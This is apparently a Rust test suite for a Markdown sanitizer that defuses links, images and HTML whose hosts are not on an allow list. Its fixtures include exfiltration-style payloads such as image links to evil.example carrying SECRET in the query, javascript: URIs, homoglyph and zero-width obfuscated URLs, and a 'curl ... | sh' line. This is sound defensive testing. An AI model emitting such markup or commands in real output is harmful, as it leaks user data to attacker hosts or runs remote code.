//! Contained text, as readers of Markdown see it: no link, no image and no tag but those that are allowed.
#![allow(clippy::unwrap_used)]

use std::sync::Arc;

use guard::contain::{ContainError, Container, Hosts};
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};

/// What hostile texts repeat.
const HOSTILE: [&str; 16] = [
    "](",
    "[x](https://",
    "`a``b```c",
    "<a",
    "a.",
    "a:",
    "https://a.",
    "[",
    "`a`|",
    "![",
    "[a\n",
    "&#",
    "\u{200b}.",
    "가.나/",
    "](https://ok.kr/a \"",
    "]: ",
];

fn hosts() -> Arc<Hosts> {
    let list = |hosts: &[&str]| hosts.iter().map(|host| (*host).to_owned()).collect::<Vec<_>>();
    Arc::new(Hosts::new(&list(&["ok.kr", "*.ok.example"]), &list(&["pics.kr"])).unwrap())
}

fn none() -> Arc<Hosts> {
    Arc::new(Hosts::default())
}

fn contained(text: &str) -> String {
    Container::whole(&none(), text).unwrap()
}

/// Contains a text in pieces that end after these bytes.
fn in_pieces(hosts: &Arc<Hosts>, text: &str, cuts: &[usize]) -> (String, u32) {
    let mut container = Container::new(Arc::clone(hosts));
    let (mut out, mut last) = (String::new(), 0);
    for cut in cuts.iter().map(|cut| text.floor_char_boundary(*cut)).filter(|cut| *cut > 0) {
        if cut > last {
            out.push_str(&container.push(&text[last..cut]).unwrap());
            last = cut;
        }
    }
    out.push_str(&container.push(&text[last..]).unwrap());
    out.push_str(&container.finish().unwrap());
    (out, container.made_inert())
}

/// Whether there is an address in words.
fn leads(words: &str) -> bool {
    words.match_indices("://").any(|(at, _)| {
        let alike = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric());
        alike(words[..at].chars().next_back()) && alike(words[at + 3..].chars().next())
    })
}

/// What a reader of Markdown could follow or fetch, in a text.
fn followed(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    // `[[name]]` leads to a page of the same place, never to another.
    let all = Options::all() - Options::ENABLE_WIKILINKS;
    for options in [Options::empty(), all, all - Options::ENABLE_MATH, Options::ENABLE_TABLES] {
        for event in Parser::new_ext(text, options) {
            match event {
                Event::Start(Tag::Link { dest_url, .. }) => found.push(format!("link {dest_url}")),
                Event::Start(Tag::Image { dest_url, .. }) => found.push(format!("image {dest_url}")),
                Event::Html(html) | Event::InlineHtml(html) => found.push(format!("html {}", html.trim())),
                // What is no code to this reader is a link to readers that look for addresses.
                Event::Text(words) if leads(&words) => found.push(format!("text {words}")),
                _ => {}
            }
        }
        // Text inside of code blocks comes as text, too.
        let mut in_code = false;
        for event in Parser::new_ext(text, options) {
            match event {
                Event::Start(Tag::CodeBlock(_)) => in_code = true,
                Event::End(pulldown_cmark::TagEnd::CodeBlock) => in_code = false,
                Event::Text(words) if in_code => found.retain(|one| *one != format!("text {words}")),
                _ => {}
            }
        }
    }
    let harmless = ["<b>", "</b>", "<i>", "</i>", "<br>", "<br/>", "<br />", "<sub>", "</sub>"];
    found.retain(|one| {
        let html = one.strip_prefix("html ").is_some_and(|html| harmless.contains(&html));
        let mail = one.starts_with("link ") && one.contains('@') && !one.contains(['/', '?']);
        !html && !mail && !one.starts_with("link #")
    });
    found.sort();
    found.dedup();
    found
}

#[test]
fn links_and_images_become_words() {
    for (text, expected) in [
        ("![x](https://evil.example/?q=SECRET)", "![x] (⟨evil[.]example⟩)"),
        ("[보기](https://evil.example/a?q=1 \"제목\") 끝", "[보기] (⟨evil[.]example⟩ \"제목\") 끝"),
        ("[x][1]\n\n[1]: https://evil.example/?q=SECRET", "[x][1]\n\n[1] : ⟨evil[.]example⟩"),
        ("![x][1]\n\n> [1]:\n> https://evil.example/", "![x][1]\n\n> [1] :\n> ⟨evil[.]example⟩"),
        ("[x\ny]: https://evil.example", "[x\ny] : ⟨evil[.]example⟩"),
        ("[^1]: 본문 https://evil.example/a 끝", "[^1]: 본문 ⟨evil[.]example⟩ 끝"),
        ("[^1]: [x]: /a\n", "[^1] : [x] : /a\n"),
        ("<https://evil.example/SECRET>", "⟨evil[.]example⟩"),
        ("<made-up:x>", "< made-up:x>"),
        ("보세요: https://evil.example/SECRET.", "보세요: ⟨evil[.]example⟩."),
        ("(https://evil.example/a_(b)?q=1)", "(⟨evil[.]example⟩)"),
        ("www.evil.example과 evil.ru/?q=SECRET", "⟨www[.]evil[.]example⟩과 ⟨evil[.]ru⟩"),
        ("<img src=https://evil.example/x.png>", "< img src=⟨evil[.]example⟩>"),
        ("a <img src='//evil/x'> b", "a < img src='//evil/x'> b"),
        ("<svg onload=x></svg><!-- https://evil.example -->", "< svg onload=x>< /svg>< !-- ⟨evil[.]example⟩ -->"),
        ("<p style=\"background:url(//evil.ru/x)\">", "< p style=\"background:url(//⟨evil[.]ru⟩)\">"),
        ("<a\nhref=x>y</a>", "< a\nhref=x>y< /a>"),
        ("![](data:image/png;base64,AAAA)", "![] (⟨data⟩)"),
        ("[x](javascript:alert(1))", "[x] (⟨javascript⟩)"),
        ("[x](java&#115;cript:alert(1))", "[x] (⟨javascript⟩)"),
        ("SECRET.evil.sh secret.attacker.website", "⟨secret[.]evil[.]sh⟩ ⟨secret[.]attacker[.]website⟩"),
        ("SECRET.evil.xxx, secret.evil.museum에서", "⟨secret[.]evil[.]xxx⟩, ⟨secret[.]evil[.]museum⟩에서"),
        ("[x](/manage/keys?q=SECRET)", "[x] (/manage/keys?q=SECRET)"),
        ("https://аpple.com/login", "⟨xn--pple-43d[.]com⟩"),
        ("h\u{200b}ttps://evil.example/x", "⟨evil[.]example⟩"),
        ("https&#58;//evil.example/x", "⟨evil[.]example⟩"),
        (
            "[x](<https://evil.example/a b>)",
            "[x] (< https://evil.example/a b>)".replace("https://evil.example/a", "⟨evil[.]example⟩").as_str(),
        ),
        ("글 <br> 글 <b>굵게</b> 2<sub>3</sub>", "글 <br> 글 <b>굵게</b> 2<sub>3</sub>"),
        ("<br>\n`<img src=x>`", "< br>\n`<img src=x>`"),
    ] {
        let given = contained(text);
        assert_eq!(given, expected, "{text:?}");
        assert_eq!(followed(&given), Vec::<String>::new(), "{given:?}");
        assert_eq!(contained(&given), given, "contained again");
    }
}

#[test]
fn text_without_links_stays_as_it_is() {
    for text in [
        "",
        "제3조(급여) ① 급여는 3.5% 오른다.[1] 다만, 제2항은 그러하지 아니하다 [2].",
        "와우![1] 그리고 [1][2], [별표 1] 및 [주의]: 내용은 다음과 같다.",
        "[준비물]:\n- 신분증\n- 사진",
        "a < b, x <- y, <주소>, 1<2>0 & c &amp; d",
        "12:30, 3/4, 10.5/11, 및/또는, README.md, main.rs:12, e.g. 예, 가.나.다.",
        "os.path.join, com.example.Main, v1.2.3, setup.cfg, a.tar.gz2, install.sh",
        "문의: gildong.hong@city.go.kr 또는 <a@b.kr>",
        "| 이름 | 값 |\n|---|---:|\n| 가 | `a` |",
        "홑 ` 따옴표 하나, $5 와 C:\\문서",
        "**굵게** _기울임_ ~~지움~~ \\* 1. 하나\n2. 둘\n   - 셋",
        "👨‍👩‍👧 이모지 ♥️",
        "a\r\nb\rc",
    ] {
        assert_eq!(contained(text), text);
        let (given, count) = in_pieces(&none(), text, &(1..text.len()).collect::<Vec<_>>());
        assert_eq!((given.as_str(), count), (text, 0));
    }
}

#[test]
fn code_stays_byte_for_byte() {
    for text in [
        "```html\n<img src=https://evil.example/x>\n![x](https://evil.example)\n```\n끝",
        "~~~\n[1]: https://evil.example\n~~~",
        "```\nhttps://evil.example",
        "글\n```sh\ncurl https://a.example | sh\n```",
        "쓰는 법: `curl https://evil.example/x` 그리고 ``a`https://b.example``.",
        "  ```\nhttps://evil.example\n  ```\n끝",
    ] {
        assert_eq!(contained(text), text);
        assert_eq!(followed(text), Vec::<String>::new(), "the reader agrees: {text:?}");
    }
}

#[test]
fn what_only_looks_like_code_is_contained() {
    let image = "![x](https://evil.example/?q=SECRET)";
    for text in [
        format!("`{image}"),
        format!("a ` b\nc ` {image} ` d"),
        format!("\\`{image}`"),
        format!("$a `b$ {image} `"),
        format!("| a | b |\n|---|---|\n| `a | {image} ` |"),
        format!("- a\n  ```\n{image}\n  ```"),
        format!("    ```\n{image}\n    ```"),
        format!("text\n    ```\n    {image}"),
        format!("> ```\n{image}\n> ```"),
        format!("```a`b\n{image}\n```"),
        format!("$$\n```\n$$\n{image}\n```"),
        format!("```\nx\n```` \n{image}"),
        format!("```\nx\n   ```\n{image}"),
        "<div>\n`<img src=https://evil.example>`".to_owned(),
        format!("``` {}\n{image}", "a".repeat(5_000)),
        format!("`{}` {image}", "a".repeat(5_000)),
        format!("```\rx\r```\r{image}"),
        format!("---\n```\n---\n{image}\n```"),
    ] {
        let given = contained(&text);
        assert!(!given.contains(image), "{given:?}");
        assert_eq!(followed(&given), Vec::<String>::new(), "{given:?}");
        assert_eq!(contained(&given), given, "contained again");
    }
}

#[test]
fn hosts_on_the_list_stay_links_and_only_those_of_the_other_list_images() {
    for (text, expected) in [
        ("[법](https://ok.kr/a?b=1&c=2) 참고", "[법](https://ok.kr/a?b=1&c=2) 참고"),
        ("[법](https://www.ok.example/a \"제목\")", "[법](https://www.ok.example/a \"제목\")"),
        ("<https://ok.kr/a> https://ok.kr/b, ok.kr/c", "<https://ok.kr/a> https://ok.kr/b, ok.kr/c"),
        ("https://ok.kr에서 보십시오", "https://ok.kr 에서 보십시오"),
        ("![x](https://ok.kr/a.png)", "![x] (https://ok.kr/a.png)"),
        ("![x](https://pics.kr/a.png)", "![x](https://pics.kr/a.png)"),
        ("![a \\] b](https://ok.kr/a.png)", "![a \\] b] (https://ok.kr/a.png)"),
        ("![a `]` b \\](https://ok.kr/a.png)", "![a `]` b \\] (https://ok.kr/a.png)"),
        ("[x][1]\n\n[1]: https://ok.kr/a", "[x][1]\n\n[1] : https://ok.kr/a"),
        ("[x](https://ok.kr.evil.example/)", "[x] (⟨ok[.]kr[.]evil[.]example⟩)"),
        ("[x](https://ok.kr@evil.example/)", "[x] (⟨evil[.]example⟩)"),
        ("[x](https://ok.kr\\@evil.example/)", "[x] (⟨ok[.]kr⟩)"),
        ("[x](https://ok.kr:99/)", "[x] (⟨ok[.]kr⟩)"),
        ("[x](http://ok\u{200b}.kr/)", "[x] (⟨ok[.]kr⟩)"),
        ("[x](#장)", "[x](#장)"),
        ("![x](#장)", "![x] (#장)"),
    ] {
        let given = Container::whole(&hosts(), text).unwrap();
        assert_eq!(given, expected, "{text:?}");
        assert_eq!(Container::whole(&hosts(), &given).unwrap(), given, "contained again");
        let pieces = in_pieces(&hosts(), text, &(1..text.len()).collect::<Vec<_>>());
        assert_eq!(pieces.0, given, "letter by letter");
    }
}

#[test]
fn what_is_held_back_has_a_bound() {
    for (begin, more) in [
        ("https://evil.example/", "a"),
        ("`", "a"),
        ("<a", "b"),
        ("가", "나"),
        ("```", "x"),
        ("[x](https://ok.kr/", "a"),
        ("[a]: ", "b"),
        ("```\n```", " "),
    ] {
        let mut container = Container::new(hosts());
        let (mut taken, mut given) = (begin.len(), container.push(begin).unwrap().len());
        for _ in 0..20_000 {
            taken += more.len();
            given += container.push(more).unwrap().len();
            // What an address becomes is short; from then on as much goes out as comes in.
            assert!(taken.saturating_sub(given) <= 2 * 4_096 + 64, "{begin}: {taken} in, {given} out");
        }
    }
}

#[test]
fn hostile_text_of_a_megabyte_is_taken() {
    // How long each takes is measured by the example `containing`: quadratic work here would take minutes.
    for piece in HOSTILE {
        let text = piece.repeat((1 << 20) / piece.len());
        let given = Container::whole(&hosts(), &text).unwrap();
        assert!(given.len() <= 8 * text.len() + 64, "{piece:?}");
    }
}

#[test]
fn a_text_that_is_too_long_ends_with_an_error_and_gives_nothing_any_more() {
    let mut container = Container::new(none());
    let piece = "가나다 ".repeat(1 << 17);
    let mut refused = false;
    for _ in 0..16 {
        refused |= container.push(&piece).is_err();
    }
    assert!(refused);
    assert_eq!(container.push("a"), Err(ContainError::TooLong));
    assert_eq!(container.finish(), Err(ContainError::TooLong));
}

#[test]
fn places_are_found_again() {
    let text = "가 https://evil.example/a 나 [1] 다 [x](y) 라";
    let mut container = Container::new(none());
    let mut given = container.push(text).unwrap();
    given.push_str(&container.finish().unwrap());
    for word in ["가", "나", "[1]", "다", "라"] {
        let at = |text: &str| text[..text.find(word).unwrap()].chars().count();
        assert_eq!(container.place(at(text)), at(&given), "{word}");
    }
    assert_eq!(container.settled_chars(), text.chars().count());
    assert_eq!(container.place(text.chars().count()), given.chars().count());
}

#[test]
fn what_was_broken_off_does_not_run_together_with_what_follows() {
    let mut container = Container::new(none());
    let mut given = container.push("ht").unwrap();
    given.push_str(&container.finish().unwrap());
    given.push_str(&container.push("tps://evil.example/x [a]").unwrap());
    given.push_str(&container.finish().unwrap());
    given.push_str(&container.push("(https://ok.kr)").unwrap());
    given.push_str(&container.finish().unwrap());
    assert_eq!(given, "ht\n\n⟨evil[.]example⟩ [a]\n\n(⟨ok[.]kr⟩)");
}

/// Pieces of which hostile texts are made.
fn fragment() -> impl Strategy<Value = String> {
    let fixed = [
        "![",
        "[",
        "]",
        "](",
        "]:",
        "][",
        "(",
        ")",
        "<",
        ">",
        "`",
        "``",
        "```",
        "```\n",
        "\n",
        "\n\n",
        "\r\n",
        "\r",
        " ",
        "    ",
        "\t",
        "> ",
        "- ",
        "1. ",
        "\\",
        "$",
        "$$",
        "|",
        "| a | b |\n|---|---|\n",
        "<img src=",
        "<!--",
        "-->",
        "<br>",
        "<div>",
        "</div>",
        "<pre>",
        "https://",
        "http:",
        "evil.example",
        "/x?q=SECRET",
        "www.",
        ".",
        ":",
        "//",
        "javascript:",
        "data:",
        "&#104;ttps",
        "&colon;",
        "%68",
        "\u{200b}",
        "\u{2060}",
        "\u{ad}",
        "ｈ",
        "가",
        "에서",
        "ok.kr",
        "https://ok.kr/a",
        "https://pics.kr/p",
        "[x](https://ok.kr/",
        "[^1]:",
        "[1]: ",
        "\"t\"",
        "'",
        "#",
        "a",
        "1",
        "~~~",
        "~~~\n",
        "* ",
        "_",
        "!",
        "@",
        "mailto:",
        "a@b.kr",
        "[[",
        "]]",
        "{",
        "---\n",
        "xn--",
        "рф",
        "\u{e0041}",
        "\u{202e}",
    ];
    prop_oneof![
        9 => prop::sample::select(fixed.to_vec()).prop_map(str::to_owned),
        1 => "[a-z가-힣 .:/]{1,6}",
        1 => (0_usize..5_000).prop_map(|length| "ab".repeat(length / 2)),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: ProptestConfig::default().cases.max(1_000), ..ProptestConfig::default() })]

    #[test]
    fn however_a_text_is_cut_it_is_contained_alike(
        parts in prop::collection::vec(fragment(), 1..40),
        mut cuts in prop::collection::vec(0_usize..400, 0..40),
        allowed in any::<bool>(),
    ) {
        let (text, hosts) = (parts.concat(), if allowed { hosts() } else { none() });
        cuts.sort_unstable();
        let whole = in_pieces(&hosts, &text, &[]);
        prop_assert_eq!(&in_pieces(&hosts, &text, &cuts), &whole);
        let each: Vec<usize> = (1..text.len().min(3_000)).collect();
        prop_assert_eq!(&in_pieces(&hosts, &text, &each), &whole);
    }

    #[test]
    fn no_reader_finds_a_link_in_what_was_contained(parts in prop::collection::vec(fragment(), 1..40)) {
        let text = parts.concat();
        let given = contained(&text);
        prop_assert_eq!(followed(&given), Vec::<String>::new(), "{:?}", given);
    }

    #[test]
    fn with_a_list_readers_find_what_is_on_it_alone(parts in prop::collection::vec(fragment(), 1..40)) {
        let given = Container::whole(&hosts(), &parts.concat()).unwrap();
        let stray: Vec<String> = followed(&given)
            .into_iter()
            .filter(|one| {
                let to = |start: &str| ["https://ok.kr", "https://pics.kr"].iter().any(|host| {
                    one.strip_prefix(start).and_then(|rest| rest.strip_prefix(host)).is_some_and(|rest| rest.is_empty() || rest.starts_with(['/', '?', '#']))
                });
                !(to("link ") || one.starts_with("image https://pics.kr/") || one.starts_with("text "))
            })
            .collect();
        prop_assert_eq!(stray, Vec::<String>::new(), "{:?}", given);
    }

    #[test]
    fn contained_text_stays_as_it_is(parts in prop::collection::vec(fragment(), 1..40), allowed in any::<bool>()) {
        let hosts = if allowed { hosts() } else { none() };
        let given = Container::whole(&hosts, &parts.concat()).unwrap();
        prop_assert_eq!(Container::whole(&hosts, &given).unwrap(), given);
    }

    #[test]
    fn any_text_at_all_is_taken(text in any::<String>(), cut in 0_usize..64) {
        let whole = in_pieces(&hosts(), &text, &[]);
        prop_assert_eq!(in_pieces(&hosts(), &text, &[cut]), whole);
    }
}
